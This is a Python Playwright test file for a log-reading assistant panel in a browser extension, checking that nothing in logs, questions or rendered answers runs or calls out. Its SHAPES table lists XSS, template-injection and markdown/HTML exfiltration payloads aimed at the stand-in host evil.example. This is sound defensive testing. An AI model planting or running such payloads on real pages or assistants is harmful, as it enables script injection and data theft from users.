"""Evidence and questions written to make the panel do something: nothing leaves, nothing runs, nothing is linked."""

from __future__ import annotations

import re
from pathlib import Path

from playwright.sync_api import Page, expect
from tests.e2e.browser import Chromium
from tests.e2e.panel import Panel
from tests.e2e.sites import Site
from tests.servers import Process

RUN = "globalThis.hacked=1"
SHAPES = {
    "image": "![x](http://evil.example/1.png)",
    "reference image": "![x][r]\n\n[r]: http://evil.example/2.png",
    "link": f"[click](http://evil.example/3) [click](javascript:{RUN})",
    "reference link": "[click][l]\n\n[l]: http://evil.example/4 'title'",
    "autolink": "<http://evil.example/5> http://evil.example/5b www.evil.example",
    "html image": f"<img src=http://evil.example/6.png onerror={RUN}>",
    "script": f"<script>{RUN}</script><script src=http://evil.example/7.js></script>",
    "svg": f"<svg onload={RUN}><image href=http://evil.example/8.svg /><script>{RUN}</script></svg>",
    "frame": f"<iframe src=http://evil.example/9></iframe><iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    "data address": f"[x](data:text/html,<script>{RUN}</script>) <object data='data:text/html,{RUN}'></object>",
    "entities": f"&lt;img src=x onerror={RUN}&gt; &#60;img src=http://evil.example/11 onerror={RUN}&#62;",
    "style": "<style>@import 'http://evil.example/12.css';</style><p style='background:url(http://evil.example/12)'>",
    "fences": f"````\n```html\n<img src=http://evil.example/13>\n```\n````\n~~~\n</pre><img src=x onerror={RUN}>",
    "templates": "{{constructor.constructor('globalThis.hacked=1')()}} ${globalThis.hacked=1} <%= 1 %> #{1}",
    "page head": "<base href=http://evil.example/><meta http-equiv=refresh content='0;url=http://evil.example/15'>"
    "<link rel=stylesheet href=http://evil.example/15.css><form action=http://evil.example/15><button>Go</button></form>",
}
LIVING = (
    "img, a, iframe, frame, object, embed, video, audio, source, base, form[action], [style*='url'], [background], "
    "[srcset], svg image, svg script, svg a, [onload], [onerror], [onclick], "
    "#app script, #app style, #app link, #app meta"
)


def test_nothing_leaves_and_nothing_runs(
    panel: Panel, chromium: Chromium, shared_tab: Page, server: Process, evil: Site
) -> None:
    dialogs: list[str] = []
    panel.page.on("dialog", lambda dialog: dialogs.append(dialog.message))
    before = len(chromium.sent)
    for count, (name, shape) in enumerate(SHAPES.items(), start=1):
        panel.drop(f"{name}.log", f"2026-01-02T03:04:05Z ERROR mailer: {shape} connection refused\n{shape}\n")
        panel.ask(f"What is wrong? {shape}")
        panel.answered(count)
        panel.unfold()
        panel.citations.first.click()
        expect(panel.cited_lines.first).to_be_visible()
        assert panel.page.locator(LIVING).count() == 0, name
        panel.page.keyboard.press("Escape")
    expect(panel.conversation).to_contain_text("http://evil.example/6.png")
    panel.page.reload()
    panel.answered(len(SHAPES))

    assert panel.page.locator(LIVING).count() == 0
    assert panel.page.evaluate("globalThis.hacked ?? null") is None
    assert dialogs == []
    assert {one.origin for one in chromium.sent[before:]} == {server.url}
    assert evil.heard == []
    shared_tab.evaluate("fetch('http://evil.example/', {mode: 'no-cors'})")
    assert evil.heard, "whoever listens would have heard it"
    evil.heard.clear()


def test_answers_in_markdown_are_harmless_whatever_they_hold(
    panel: Panel, chromium: Chromium, extension: Path, evil: Site
) -> None:
    """The renderer itself, as built, on the panel's own page: an engine may one day quote what this one does not."""
    (renderer,) = (extension / "chunks").glob("markdown-*.js")
    before = len(chromium.sent)
    for name, shape in SHAPES.items():
        shown: str = panel.page.evaluate(
            """async ([renderer, shape]) => {
                const {safeFragment} = await import(renderer);
                const place = document.createElement("div");
                place.append(safeFragment(shape));
                document.querySelector("[role=log]").append(place);
                return place.innerHTML;
            }""",
            [f"/chunks/{renderer.name}", shape],
        )
        assert panel.page.locator(LIVING).count() == 0, name
        assert " " not in "".join(re.findall(r"<[^/>]+>", shown)), f"{name}: no element has an attribute"
    assert panel.page.evaluate("globalThis.hacked ?? null") is None
    assert [str(one) for one in chromium.sent[before:] if "evil.example" in one.url] == []
    assert evil.heard == []


def test_characters_that_hide_are_shown(panel: Panel) -> None:
    panel.drop("bidi.log", "2026-01-02T03:04:05Z ERROR mailer: connection refused \u202egnp.exe\u202c\u200b\x1b[31m\n")
    panel.ask("What is wrong\u202e?")
    panel.answered()
    panel.citations.first.click()
    expect(panel.cited_lines.first).to_contain_text("\\u202egnp.exe\\u202c\\u200b\\x1b[31m")
    text = panel.page.locator("body").inner_text()
    assert not set("\u202e\u202c\u200b\x1b") & set(text)
